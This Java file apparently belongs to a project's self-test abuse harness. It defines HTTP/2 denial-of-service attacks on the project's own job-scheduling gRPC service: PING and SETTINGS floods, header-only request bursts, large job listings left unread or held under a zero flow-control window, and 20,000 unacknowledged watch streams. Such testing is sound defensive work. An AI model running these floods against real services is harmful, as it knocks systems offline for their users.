package dev.dueline.system.abuse.attack;

import static dev.dueline.system.abuse.wire.FrameType.DATA;
import static dev.dueline.system.abuse.wire.FrameType.END_HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.END_STREAM;
import static dev.dueline.system.abuse.wire.FrameType.HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.NO_FLAGS;
import static dev.dueline.system.abuse.wire.FrameType.PING;
import static dev.dueline.system.abuse.wire.FrameType.SETTINGS;

import dev.dueline.system.abuse.wire.Frames;
import dev.dueline.system.abuse.wire.HeaderBlock;
import dev.dueline.system.abuse.wire.Messages;
import dev.dueline.system.abuse.wire.Paths;
import dev.dueline.system.abuse.wire.RawHttp2;
import dev.dueline.system.abuse.wire.Trait;
import dev.dueline.v1.ListJobsRequest;
import dev.dueline.v1.WatchDueRequest;
import java.io.IOException;
import java.util.List;

/** Peers that ask and do not take the answers, so that these wait in the service. */
final class UnreadAnswers {
  private static final int CONNECTIONS = 10;

  /** Twenty times what a connection is told that it may have. */
  private static final int WATCHES = 20_000;

  private static final byte[] LIST =
      Messages.of(
          ListJobsRequest.newBuilder()
              .setQueue("abuse")
              .setPageSize(1_000)
              .setIncludePayload(true)
              .build()
              .toByteArray());
  private static final byte[] WATCH =
      Messages.of(WatchDueRequest.newBuilder().addQueues("abuse").build().toByteArray());

  private UnreadAnswers() {}

  static List<Attack> all() {
    return List.of(
        flood("unread: PING", PING, new byte[8]),
        flood("unread: SETTINGS", SETTINGS, new byte[0]),
        Attack.of("unread: refusals", UnreadAnswers::refusals),
        Attack.of("unread: lists of jobs", attacker -> lists(attacker, Trait.NEVER_READS)),
        Attack.of("unread: lists of jobs, window 0", attacker -> lists(attacker, Trait.NO_WINDOW)),
        Attack.of("unread: 20,000 WatchDue, no ACK", UnreadAnswers::watches));
  }

  private static Attack flood(String name, int type, byte[] payload) {
    byte[] bytes = Frames.repeated(type, NO_FLAGS, 0, payload);
    return Attack.of(
        name,
        attacker ->
            attacker.inParallel(
                CONNECTIONS,
                () ->
                    attacker.repeatedly(
                        connection -> {
                          while (!attacker.isOver()) {
                            connection.write(bytes);
                          }
                          hold(attacker);
                        },
                        Trait.NEVER_READS)));
  }

  private static void refusals(Attacker attacker) {
    byte[] block = HeaderBlock.call(Paths.SCHEDULE).toBytes();
    attacker.inParallel(
        CONNECTIONS,
        () ->
            attacker.repeatedly(
                connection -> {
                  while (!attacker.isOver()) {
                    Frames frames = new Frames();
                    for (int i = 0; i < 100; i++) {
                      int stream = connection.newStream();
                      frames.add(HEADERS, END_HEADERS | END_STREAM, stream, block);
                    }
                    connection.write(frames.toBytes());
                  }
                  hold(attacker);
                },
                Trait.NEVER_READS));
  }

  private static void lists(Attacker attacker, Trait trait) {
    byte[] block = HeaderBlock.call(Paths.LIST_JOBS, attacker.target().token()).toBytes();
    attacker.inParallel(
        CONNECTIONS,
        () ->
            attacker.repeatedly(
                connection -> {
                  for (int i = 0; i < 1_000 && !attacker.isOver(); i++) {
                    call(connection, block, LIST);
                  }
                  while (!attacker.isOver() && connection.ending().isEmpty()) {
                    Thread.sleep(20);
                  }
                  hold(attacker);
                },
                trait));
  }

  private static void watches(Attacker attacker) throws InterruptedException {
    byte[] block = HeaderBlock.call(Paths.WATCH_DUE, attacker.target().token()).toBytes();
    attacker.repeatedly(
        connection -> {
          for (int i = 0; i < WATCHES && !attacker.isOver(); i++) {
            call(connection, block, WATCH);
          }
          while (!attacker.isOver() && connection.ending().isEmpty()) {
            Thread.sleep(20);
          }
          hold(attacker);
        },
        Trait.NEVER_ACKS);
  }

  /** Small messages, for which flow control has no say that matters. */
  private static void call(RawHttp2 connection, byte[] block, byte[] message) throws IOException {
    int stream = connection.newStream();
    connection.write(
        new Frames()
            .add(HEADERS, END_HEADERS, stream, block)
            .add(DATA, END_STREAM, stream, message)
            .toBytes());
  }

  /** Keeps the connection until the attack is closed, once its time is over. */
  private static void hold(Attacker attacker) throws InterruptedException {
    while (attacker.isOver()) {
      Thread.sleep(1_000);
    }
  }
}
